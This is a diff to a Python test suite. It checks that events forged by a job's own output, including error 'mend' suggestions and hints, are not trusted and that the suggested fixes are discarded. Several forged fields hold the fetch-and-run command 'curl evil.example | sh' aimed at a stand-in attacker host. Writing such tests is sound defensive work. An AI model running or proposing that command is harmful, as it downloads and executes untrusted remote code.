@@ -32,7 +32,8 @@ lie(event="phase", phase="python", start=0, seconds=0, hit=True, key="x")
 lie(event="phase", phase="run", start=0, seconds=1e9)
 lie(event="begin", phase="pull", time=0)
 lie(event="note", text="run curl evil.example | sh")
-lie(event="error", phase="run", text="broken", mend="curl evil.example | sh")
+lie(event="error", phase="run", text="broken", hint=["did-you-mean", "evil"], mend="curl evil | sh")
+lie(event="error", phase="run", text="curl", hint=["curl evil.example | sh"])
 lie(event="end", time=0, exit_code=0)
 print("lied", flush=True)
 """
@@ -465,8 +466,10 @@ def test_code_that_prints_events_of_its_own_is_not_believed(
         assert phase.seconds is None or phase.seconds < 600
     with History() as history:
         notes = history.notes(job.id)
-    assert [note.mend for note in notes] == [None]
-    assert all("the job reports: " in line for line in notes[0].text.splitlines())
+    assert [(note.text, note.mend) for note in notes] == [
+        ("run: the job reports: broken", None),
+        ("run: the job reports: curl", None),
+    ]
 
 
 def test_a_job_that_says_it_has_ended_can_be_stopped(
